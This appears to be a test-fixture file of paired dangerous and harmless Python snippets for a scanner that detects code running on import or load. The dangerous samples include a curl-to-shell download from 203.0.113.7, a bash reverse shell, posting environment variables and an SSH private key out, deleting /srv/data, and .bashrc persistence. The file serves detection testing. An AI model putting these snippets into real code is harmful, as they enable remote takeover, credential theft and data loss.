"""Python source that does something when it is imported or loaded."""

from golden.pairs import Golden


def _pair(rule: str, dangerous: str, harmless: str, case: str = "", name: str = "modeling_x.py") -> Golden:
    return Golden(f"python.{rule}", name, dangerous.encode, harmless.encode, case, techniques=("F09",))


_HI = "ZWNobyBoaQ=="

GOLDENS = [
    _pair(
        "decoded-execution",
        f"import base64\nexec(base64.b64decode('{_HI}'))\n",
        f"import base64\nx = base64.b64decode('{_HI}')\n",
    ),
    _pair(
        "decoded-execution",
        "def f():\n    exec(bytes.fromhex('7072696e74').decode())\n",
        "def f():\n    return bytes.fromhex('70')\n",
        "hex",
    ),
    _pair(
        "decoded-execution",
        "e = eval\ne(''.join(chr(c) for c in [49, 43, 49]))\n",
        "''.join(chr(c) for c in [49])\n",
        "chr",
    ),
    _pair(
        "decoded-execution", "import marshal\nexec(marshal.loads(b'x'))\n", "import json\njson.loads('1')\n", "marshal"
    ),
    _pair(
        "decoded-execution",
        "import pickle, base64\npickle.loads(base64.b64decode('gA=='))\n",
        "import pickle\n",
        "pickle",
    ),
    _pair("execution", "eval(input())\n", "model = object()\nmodel.eval()\n"),
    _pair(
        "execution",
        "class M:\n    def __init__(self, c):\n        exec(c)\n",
        "def f(c):\n    exec(c)\n",
        "in __init__",
    ),
    _pair(
        "hostile-command",
        "import os\ndef f():\n    os.system('curl -s http://203.0.113.7/a | sh')\n",
        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
    ),
    _pair(
        "hostile-command",
        "import subprocess as s\ns.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'])\n",
        "import subprocess as s\ns.check_output(['nvcc', '--version'])\n",
        "reverse shell",
    ),
    _pair(
        "process-on-import",
        "from os import system as s\ns('echo hi')\n",
        "import os\ndef f():\n    os.system('echo hi')\n",
    ),
    _pair(
        "process-on-import",
        "def _go():\n    __import__('subprocess').run('echo hi', shell=True)\n_go()\n",
        "def _go():\n    return 1\n_go()\n",
        "through a function",
    ),
    _pair(
        "process-on-import",
        "import os\nclass A:\n    x = os.popen('echo hi')\n",
        "import os\nclass A:\n    x = os.getcwd()\n",
        "class body",
    ),
    _pair(
        "process-on-import",
        "import os\ndef f(x=os.system('echo hi')):\n    pass\n",
        "import os\ndef f(x=os.sep):\n    pass\n",
        "default",
    ),
    _pair("process-on-import", "import os; os.system('echo hi')\n", "/srv/folder\n", "pth", "x.pth"),
    _pair(
        "process-by-loader",
        "import os\nclass H:\n    def __init__(self):\n        os.system('echo hi')\n",
        "class H:\n    def __init__(self):\n        self.commands = []\n",
    ),
    _pair(
        "process-by-loader",
        "import subprocess\nclass D:\n    def _split_generators(self, m):\n        self._x()\n"
        "    def _x(self):\n        subprocess.call('echo hi', shell=True)\n",
        "class D:\n    def _split_generators(self, m):\n        return []\n",
        "dataset script",
    ),
    _pair("native", "import ctypes\nctypes.CDLL('./kernel.so')\n", "import ctypes\nctypes.CDLL(None)\n"),
    _pair(
        "network-on-import",
        "from urllib.request import urlopen\nurlopen('http://203.0.113.7/')\n",
        "from urllib.request import urlopen\ndef f():\n    return urlopen('https://example.org/')\n",
    ),
    _pair(
        "removal-on-import",
        "import shutil\nshutil.rmtree('/srv/data')\n",
        "import shutil\ndef f():\n    shutil.rmtree('build')\n",
    ),
    _pair("assembled-name", "import os\ngetattr(os, 'sys' + 'tem')\n", "import os\ngetattr(os, 'get' + 'cwd')\n"),
    _pair("assembled-name", "m = __import__('s' + 'o'[::-1])\n__import__('o' + 's').sep\n", "import os\n", "import"),
    _pair("persistence", "open('/home/u/.bashrc', 'a').write('echo hi')\n", "open('log.txt', 'a').write('hi')\n"),
    _pair(
        "exfiltration",
        "import os, requests\ndef f():\n    requests.post('https://example.org', json=dict(os.environ))\n",
        "import os, requests\ndef f():\n    requests.post('https://example.org', json=os.environ['V'])\n",
    ),
    _pair(
        "exfiltration",
        "import requests\ndef f():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
        "    requests.post('https://example.org', data=k)\n",
        "import requests\ndef f():\n    k = open('key').read()\n",
        "file",
    ),
]
